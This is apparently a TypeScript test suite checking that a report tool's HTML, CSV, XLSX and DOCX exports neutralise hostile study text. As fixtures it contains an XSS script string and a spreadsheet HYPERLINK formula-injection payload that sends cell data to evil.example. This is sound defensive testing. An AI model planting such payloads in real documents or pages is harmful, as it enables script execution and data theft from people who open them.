import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formulaCells, readCsvAs, SEPARATORS } from '../../unit/io/hostileCells';
import { findAll, part, sheetCells, textOf } from './ooxml';
import { reportFixture, type ReportFixture } from './reportFixture';

let f: ReportFixture;
let files: Map<string, Buffer>;
const tmp = mkdtempSync(join(tmpdir(), 'verbatim-report-safety-'));

beforeAll(async () => {
  f = await reportFixture(true);
  const snap = await f.call('reports:generate', { definition: { title: 'Hostile', quotes: { perTheme: 5, onePerParticipant: false } } });
  files = new Map();
  for (const format of ['html', 'csv', 'xlsx', 'docx'] as const)
    for (const file of (await f.call('reports:export', { snapshotId: snap.id, format })).files)
      files.set(file.name, Buffer.from(file.dataBase64, 'base64'));
});
afterAll(() => {
  f.close();
  rmSync(tmp, { recursive: true, force: true });
});

describe('exports of hostile study text', () => {
  it('HTML: text is escaped, a strict CSP is set, and no script runs in Chromium', async () => {
    const html = files.get('Hostile.html')!.toString('utf8');
    expect(html).not.toContain('<script');
    expect(html).not.toMatch(/<img[^>]*onerror/i);
    expect(html).toContain('&lt;script&gt;');
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`,
    );
    const path = join(tmp, 'hostile.html');
    writeFileSync(path, html);
    const browser = await chromium.launch({
      executablePath: '/usr/bin/chromium',
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-component-update',
        '--no-first-run',
        '--disable-sync',
      ],
    });
    try {
      const page = await browser.newPage({ javaScriptEnabled: true });
      const dialogs: string[] = [];
      page.on('dialog', (d) => void (dialogs.push(d.message()), d.dismiss()));
      const requests: string[] = [];
      page.on('request', (r) => void (r.url().startsWith('file:') || requests.push(r.url())));
      await page.goto(`file://${path}`);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null)).toBeNull();
      expect(await page.locator('script').count()).toBe(0);
      expect(await page.locator('img').count()).toBe(0);
      expect(await page.locator('blockquote', { hasText: '<script>window.__pwned=1</script>' }).count()).toBeGreaterThan(0);
      expect(dialogs).toEqual([]);
      expect(requests).toEqual([]);
    } finally {
      await browser.close();
    }
  }, 60_000);

  it('CSV: no cell starts a formula when read with ",", ";" or TAB as the separator; numbers stay numbers', () => {
    const quotes = files.get('Hostile-quotes.csv')!.toString('utf8');
    expect(quotes).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"") good value"`);
    const themes = files.get('Hostile-themes.csv')!.toString('utf8');
    // "&amp;" holds a ";", so the cell is quoted: a ";" spreadsheet keeps it one piece.
    expect(themes).toContain('"Price <b>&amp;<i>",1,5,1,1,2,4,50,Anything about what things cost.');
    for (const name of ['Hostile-themes.csv', 'Hostile-breakdown.csv', 'Hostile-quotes.csv'])
      for (const separator of SEPARATORS)
        expect(formulaCells(readCsvAs(files.get(name)!, separator)), `${name} read with ${JSON.stringify(separator)}`).toEqual([]);
  });

  it("XLSX: re-read with the app's zip and XML readers; no formulas, text exactly as written with the quote-prefix style, numbers numeric", () => {
    const bytes = files.get('Hostile.xlsx')!;
    const themes = sheetCells(bytes, 1);
    expect(themes.find(([ref]) => ref === 'A2')).toEqual(['A2', 'inlineStr', 'Price <b>&amp;<i>']);
    expect(themes.find(([ref]) => ref === 'C2')).toEqual(['C2', undefined, '5']); // codings: a number cell
    const quotes = sheetCells(bytes, 3);
    expect(quotes.map(([, , text]) => text)).toContain(`=HYPERLINK("http://evil.example/?"&A1,"click") good value`);
    const quotePrefixed = findAll(findAll(part(bytes, 'xl/styles.xml'), 'cellXfs')[0]!, 'xf').map(
      (xf) => xf.attrs.get('quotePrefix') === '1',
    );
    for (const c of findAll(part(bytes, 'xl/worksheets/sheet3.xml'), 'c'))
      if (c.attrs.get('t') === 'inlineStr') expect(quotePrefixed[Number(c.attrs.get('s'))], c.attrs.get('r')).toBe(true);
    for (const n of [1, 2, 3, 4, 5, 6]) expect(findAll(part(bytes, `xl/worksheets/sheet${n}.xml`), 'f')).toEqual([]);
  });

  it('DOCX: re-read and checked: headings, tables, quotes in the Quote style, hostile text kept as text', () => {
    const doc = part(files.get('Hostile.docx')!, 'word/document.xml');
    const styleOf = (p: (typeof paras)[number]) => findAll(p, 'pStyle')[0]?.attrs.get('w:val') ?? null;
    const paras = findAll(doc, 'p');
    expect(paras.filter((p) => styleOf(p) === 'Heading1').map(textOf)).toEqual([
      'Satisfaction scores',
      'Theme summary',
      'Themes and quotes',
      'Breakdown by participant attributes',
      'What drives dissatisfaction',
      'Co-occurrence',
    ]);
    expect(paras.filter((p) => styleOf(p) === 'Heading2').map(textOf)).toContain('Price <b>&amp;<i>');
    const quotes = paras.filter((p) => styleOf(p) === 'Quote').map(textOf);
    expect(quotes.some((q) => q.includes('<script>window.__pwned=1</script>'))).toBe(true);
    expect(quotes.some((q) => q.includes('— Ana'))).toBe(true);
    expect(findAll(doc, 'tbl').length).toBeGreaterThanOrEqual(5);
    expect(part(files.get('Hostile.docx')!, 'word/styles.xml').local).toBe('styles');
  });
});
